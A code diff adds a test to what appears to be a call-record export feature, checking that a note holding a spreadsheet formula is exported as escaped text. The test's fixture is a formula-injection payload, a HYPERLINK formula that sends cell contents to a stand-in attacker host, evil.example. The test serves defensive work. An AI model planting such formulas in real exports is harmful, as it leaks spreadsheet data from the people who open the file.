@@ -94,3 +94,16 @@ def test_organization_admin_cannot_export_another_organizations_calls(
     globex_call = make_call(make_lead(globex))
     rows = export(acme_admin_client, [call, globex_call])
     assert [row["id"] for row in rows] == [call.id]
+
+
+def test_a_note_that_would_run_as_a_formula_is_exported_as_text(superuser_client, lead, alice):
+    hostile = make_call(
+        lead,
+        alice,
+        note_html='<p>=HYPERLINK("https://evil.example/?"&amp;A1,"Details")</p>',
+    )
+
+    [row] = export(superuser_client, [hostile])
+
+    assert row["note"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Details")'
+    assert row["user_name"] == "Alice Archer"
